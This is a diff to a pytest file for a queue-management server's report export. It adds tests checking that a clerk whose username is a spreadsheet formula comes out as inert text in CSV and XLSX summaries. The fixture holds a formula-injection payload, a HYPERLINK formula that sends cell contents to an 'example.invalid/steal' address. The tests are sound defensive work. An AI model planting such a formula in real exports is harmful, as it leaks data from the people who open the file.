@@ -5,8 +5,13 @@ from __future__ import annotations
 import csv
 import io
 
+import pytest
 from openpyxl import load_workbook
 
+from queue_server import auth
+from queue_server.store.db import connect
+
+from .conftest import Office, _add_person
 from .test_report_figures import morning  # noqa: F401  (module fixture: the played morning)
 
 
@@ -71,3 +76,42 @@ def test_xlsx_keeps_a_formula_looking_name_as_text(morning):  # noqa: F811
     cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
     assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
     assert book["Tổng hợp"]["B1"].value == HOSTILE_NAME and book["Tổng hợp"]["B1"].data_type == "s"
+
+
+CLERK_FORMULA = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Bấm vào đây")'
+
+
+@pytest.fixture
+def formula_clerk(office: Office) -> Office:
+    """An office where counter 1's clerk signed up under a name a spreadsheet would run, and served a ticket."""
+    with connect(office.db_path) as db:
+        _add_person(db.conn, CLERK_FORMULA, "clerk", [1])
+        person_id = db.conn.execute("SELECT id FROM users WHERE username = ?", (CLERK_FORMULA,)).fetchone()[0]
+        person = auth.Principal("person", person_id, CLERK_FORMULA, "clerk", (1,))
+        office.tokens["formula"], _ = auth.open_session(db.conn, person, 12)
+    office.issue("HT")
+    office.clock.advance(minutes=4)
+    assert office.post("/api/counters/1/call-next", "formula").status_code == 200
+    office.clock.advance(minutes=6)
+    assert office.post("/api/counters/1/complete", "formula").status_code == 200
+    return office
+
+
+def test_a_clerk_named_like_a_formula_is_plain_text_in_the_csv(formula_clerk: Office) -> None:
+    answer = formula_clerk.get("/api/reports/summary?from=2026-11-23&to=2026-11-23&format=csv", "admin")
+    rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8").lstrip("\ufeff"))))
+    clerk_rows = [row for row in rows if row[0] == "clerk"]
+    assert clerk_rows and {row[1] for row in clerk_rows} == {"'" + CLERK_FORMULA}  # the name is visible, inert
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")]
+    served = {row[2]: row[3] for row in clerk_rows}
+    assert served["tickets.served"] == "1" and float(served["service_s.mean"]) == 360.0  # numbers stay numbers
+
+
+def test_a_clerk_named_like_a_formula_is_a_text_cell_in_the_xlsx(formula_clerk: Office) -> None:
+    answer = formula_clerk.get("/api/reports/summary?from=2026-11-23&to=2026-11-23&format=xlsx", "admin")
+    book = load_workbook(io.BytesIO(answer.data))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [f"{cell.parent.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"]
+    clerk = next(row for row in book["Cán bộ"].iter_rows() if row[0].value == CLERK_FORMULA)
+    assert clerk[0].data_type == "s"  # shown as the text it is
+    assert clerk[1].data_type == "n" and isinstance(clerk[1].value, int)
